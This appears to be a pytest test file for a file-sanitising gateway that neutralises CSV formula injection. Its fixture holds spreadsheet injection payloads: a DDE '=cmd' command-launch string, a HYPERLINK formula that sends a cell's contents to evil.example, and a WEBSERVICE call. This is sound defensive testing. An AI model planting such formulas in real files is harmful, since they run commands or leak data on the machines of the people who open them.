"""Plain text passes as is; CSV formula injection is neutralized by policy."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from gateway.models import Verdict
from gateway.policy import FormatPolicy, load
from tests.helpers.pipeline import run

POLICY = load("default")

CSV = ("氏名,金額,備考\r\n"
       "山田,-500,返金\r\n"
       "=cmd|' /C calc'!A0,100,x\r\n"
       "佐藤,=SUM(B2:B3),\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"詳細\"\")\"\r\n"
       "@WEBSERVICE(\"http://evil.example\"),+1,ok\r\n")



@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_csv_formulas_neutralized_keeping_encoding(tmp_path: Path, encoding: str) -> None:
    report, out = run(tmp_path, CSV.encode(encoding), "list.csv")
    assert report.verdict is Verdict.DISARMED
    assert {(f.kind, f.location) for f in report.items[0].findings} == {
        ("text.csv_formula", "row[3]/col[1]"), ("text.csv_formula", "row[4]/col[3]"),
        ("text.csv_formula", "row[5]/col[1]")}
    lines = out.read_bytes().decode(encoding).split("\r\n")
    assert lines[0] == "氏名,金額,備考" and lines[1] == "山田,-500,返金"
    assert lines[2] == "'=cmd|' /C calc'!A0,100,x"
    assert lines[3].startswith("佐藤,=SUM(B2:B3),\"'=HYPERLINK(")  # harmless SUM stays
    assert lines[4].startswith("\"'@WEBSERVICE(")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")


def test_csv_formulas_kept_by_policy(tmp_path: Path) -> None:
    pol = replace(POLICY, formats={**POLICY.formats, "text": FormatPolicy(
        action="disarm", options={"csv_formulas": "keep"})})
    report, out = run(tmp_path, CSV.encode(), "list.csv", policy=pol)
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == CSV.encode()


def test_plain_text_is_delivered_byte_for_byte(tmp_path: Path) -> None:
    data = "議事録\r\n=cmd|' /C calc'!A0 is only text here\r\n".encode("cp932")
    report, out = run(tmp_path, data, "minutes.txt")
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == data
